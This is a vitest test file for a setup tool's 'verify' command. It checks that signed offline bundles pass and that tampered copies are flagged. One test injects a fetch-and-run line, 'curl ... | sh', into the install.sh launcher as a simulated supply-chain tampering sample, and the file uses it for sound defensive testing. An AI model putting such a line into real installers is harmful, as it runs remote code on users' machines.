/**
 * `gentle-shell-setup verify <bundle>` on the fixture binary (the trusted
 * copy): a bundle as made passes, its launchers included; a substituted
 * setup binary, an altered launcher, a flipped package tarball and files
 * that are no part of the release are each named.
 */
import { beforeAll, describe, expect, it } from "vitest";
import { registryLine, writeNpmrc } from "../support/npmrc";
import { mkdtempSync, promises as fs } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "pathe";
import { fixtures } from "../support/context";
import { homeEnv } from "../support/fixtures";
import { runChecked, runCommand } from "../support/proc";
import { BUNDLE_PACKAGES } from "../../src/install/offline/format";
import { lockedPackages, tarballPath } from "../../src/core/lockfile";
import { DISTRIBUTION_LOCK } from "../../src/core/release-project";

const f = fixtures();
const release = f.releases[f.releases.length - 1]!;
const root = mkdtempSync(join(tmpdir(), "gss-verify-"));
const bundle = join(root, "bundle");
const nodePath = f.pins.node.archives["linux-x64"]!.path;
const binaryName = "gentle-shell-setup-linux-x64";
let packages: ReturnType<typeof lockedPackages>;

/** A copy of the bundle (hard links) with one byte flipped in `rel` (a new file, so the original keeps its bytes). */
async function tamperedCopy(name: string, rel: string): Promise<string> {
  const copy = join(root, name);
  await runChecked("cp", ["-al", bundle, copy]);
  const bytes = await fs.readFile(join(copy, rel));
  bytes[Math.floor(bytes.length / 2)]! ^= 0x01;
  await fs.rm(join(copy, rel));
  await fs.writeFile(join(copy, rel), bytes);
  return copy;
}

beforeAll(async () => {
  await writeNpmrc(root, [registryLine(f.registryUrl)]);
  const made = await runCommand(f.binary!, ["bundle", "--out", bundle, "--source", f.mirrorUrl, "--release", release.shell], {
    env: homeEnv(root),
    cwd: root,
  });
  if (made.code !== 0) throw new Error(`bundle failed:\n${made.stdout}\n${made.stderr}`);
  packages = lockedPackages(await fs.readFile(join(bundle, "releases", `v${release.shell}`, DISTRIBUTION_LOCK), "utf8"));
  return () => fs.rm(root, { recursive: true, force: true });
});

describe("gentle-shell-setup verify <bundle>, from a trusted binary", () => {
  const verify = (dir: string) => runCommand(f.binary!, ["verify", dir], { env: homeEnv(root) });

  it("passes the bundle as made: the signature, the release's own binary, the pinned runtimes and every package", async () => {
    const r = await verify(bundle);
    expect(r.code, r.stdout + r.stderr).toBe(0);
    expect(r.stdout).toContain(`✔ signed release: Gentle Shell ${release.shell} with Pi ${release.pi}, signature verified`);
    expect(r.stdout).toContain(`✔ ${binaryName}: the release's own, as signed`);
    expect(r.stdout).toContain(`✔ ${nodePath}: Node 24.21.0 for linux-x64, as pinned`);
    expect(r.stdout).toContain("✔ install.sh: the bundle's launcher, as this gentle-shell-setup writes it");
    expect(r.stdout).toContain("✔ install.cmd: the bundle's launcher, as this gentle-shell-setup writes it");
    expect(r.stdout).toContain(`✔ ${packages.length} of ${packages.length} packages: as the signed lockfile records them`);
    expect(r.stdout).toContain("it is safe to install from");
  });

  it("names a substituted setup binary, a flipped package and a file that is no part of the release", async () => {
    const copy = await tamperedCopy("tampered-binary", binaryName);
    const pkg = `${BUNDLE_PACKAGES}/${tarballPath(packages[0]!)}`;
    const bytes = await fs.readFile(join(copy, pkg));
    bytes[bytes.length - 10]! ^= 1;
    await fs.rm(join(copy, pkg));
    await fs.writeFile(join(copy, pkg), bytes);
    await fs.writeFile(join(copy, "run-me-first.sh"), "#!/bin/sh\n");
    // A launcher that runs something else first.
    const launcher = await fs.readFile(join(copy, "install.sh"), "utf8");
    await fs.rm(join(copy, "install.sh"));
    await fs.writeFile(join(copy, "install.sh"), launcher.replace("set -eu\n", "set -eu\ncurl -s http://127.0.0.1:9/x | sh\n"), { mode: 0o755 });
    await fs.mkdir(join(copy, BUNDLE_PACKAGES, "extra", "-"), { recursive: true });
    await fs.writeFile(join(copy, BUNDLE_PACKAGES, "extra", "-", "extra-1.0.0.tgz"), "x");
    const r = await verify(copy);
    expect(r.code).toBe(1);
    expect(r.stdout).toContain(`✖ ${binaryName} is not the release's own as signed: do not run it`);
    expect(r.stdout).toContain(`✖ ${pkg} is not ${packages[0]!.name}@${packages[0]!.version} as the signed lockfile records it`);
    expect(r.stdout).toContain("✖ run-me-first.sh is not part of the release or its pinned runtimes");
    expect(r.stdout).toContain("✖ install.sh is not the bundle's launcher as this gentle-shell-setup writes it: do not run it");
    expect(r.stdout).toContain(`✖ ${BUNDLE_PACKAGES}/extra/-/extra-1.0.0.tgz is not a package of the signed lockfile`);
    expect(r.stderr).toMatch(/do not install from .*: 5 thing\(s\) in it are not what the signed release and the pins say/);
    expect(r.stdout + r.stderr).not.toMatch(/\n\s+at /);
  });
});
